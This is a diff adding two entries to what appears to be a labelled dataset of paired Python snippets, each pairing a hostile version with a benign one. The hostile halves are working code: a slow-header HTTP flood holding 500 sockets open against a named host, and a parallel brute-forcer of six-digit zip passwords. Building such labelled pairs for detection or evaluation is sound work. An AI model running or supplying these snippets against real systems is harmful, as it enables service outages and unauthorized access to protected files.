@@ -374,6 +374,28 @@ PAIRS = [
      "    p = c.recv(4096).decode().split(' ')[1]\n"
      "    body, kind = open('status.html', 'rb').read(), 'text/html'\n"
      "    c.sendall(f'HTTP/1.0 200 OK\\r\\nContent-Type: {kind}\\r\\n\\r\\n'.encode() + body)\n    c.close()"),
+    ("slow flood: sockets opened through a partial and fed one header line each by a map in a paced loop; "
+     "connections that send whole requests and read the answers", "dos_attack",
+     "import socket, time\nfrom functools import partial\ndef opener(host, port):\n"
+     "    s = socket.create_connection((host, port))\n    s.send(b'GET / HTTP/1.1\\r\\n')\n    return s\n"
+     "def trickle(s):\n    s.send(b'X-a: 1\\r\\n')\n    return s\nmake = partial(opener, 'shop.example.com', 80)\n"
+     "pool = [make() for _ in range(500)]\nwhile True:\n    pool = list(map(trickle, pool))\n    time.sleep(10)",
+     "import socket, time\nfrom functools import partial\ndef opener(host, port):\n"
+     "    s = socket.create_connection((host, port))\n    s.send(b'GET / HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n')\n"
+     "    print(s.recv(4096)[:80])\n    return s\ndef check(s):\n    s.send(b'GET /health HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n')\n"
+     "    return s.recv(4096)\nmake = partial(opener, 'shop.example.com', 80)\n"
+     "pool = [make() for _ in range(3)]\nwhile True:\n    print(list(map(check, pool)))\n    time.sleep(60)"),
+    ("password trial: a partial of an archive trial mapped over brute-force candidates; the same partial mapped over "
+     "the archive's members to read each with the known password", "password_cracking",
+     "import zipfile, itertools, string\nfrom functools import partial\nfrom concurrent.futures import ProcessPoolExecutor\n"
+     "def attempt(path, member, pw):\n    try:\n        zipfile.ZipFile(path).read(member, pwd=pw.encode())\n"
+     "        return pw\n    except Exception:\n        return None\ncheck = partial(attempt, 'backup.zip', 'a.txt')\n"
+     "with ProcessPoolExecutor() as ex:\n"
+     "    print(list(filter(None, ex.map(check, map(''.join, itertools.product(string.digits, repeat=6))))))",
+     "import zipfile\nfrom functools import partial\nfrom concurrent.futures import ProcessPoolExecutor\n"
+     "def attempt(path, pw, member):\n    return zipfile.ZipFile(path).read(member, pwd=pw.encode())\n"
+     "check = partial(attempt, 'backup.zip', 'our-shared-pass')\nwith ProcessPoolExecutor() as ex:\n"
+     "    print(list(ex.map(check, zipfile.ZipFile('backup.zip').namelist())))"),
     ("server: an http.server handler that writes out the file its request path names; one that always sends its "
      "own page", "web_file_hosting",
      "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
